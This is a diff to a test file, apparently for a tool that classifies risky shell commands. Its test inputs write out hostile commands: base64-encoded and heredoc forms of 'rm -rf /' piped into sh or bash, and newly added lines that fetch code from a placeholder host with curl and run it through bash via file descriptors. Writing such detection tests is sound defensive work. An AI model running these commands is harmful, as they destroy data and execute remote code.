@@ -75,6 +75,11 @@ describe('pipes', () => {
     'echo cm0gLXJmIC8= | base64 -d | sh': [`${ROOT} ‹sh›`],
     'base64 -d <<< cm0gLXJmIC8= | bash': [`${ROOT} ‹bash›`],
     'cat x.b64 | base64 -d | sh': ['fs.read ./x.b64', 'code.exec origin=decoded resolved=false ‹sh›'],
+    'exec 3< <(curl https://x.test); bash <&3': ['net.fetch x.test', 'code.exec origin=network resolved=false ‹bash›'],
+    'exec {fd}< <(curl https://x.test); bash <&$fd': [
+      'net.fetch x.test',
+      'code.exec origin=network resolved=false ‹bash›',
+    ],
     'cat <<EOF | bash\nrm -rf /\nEOF': [`${ROOT} ‹bash›`],
     'bash <<EOF\nrm -rf /\nEOF': [`${ROOT} ‹bash›`],
     'D=/; bash <<EOF\nrm -rf $D\nEOF': [`${ROOT} ‹bash›`],
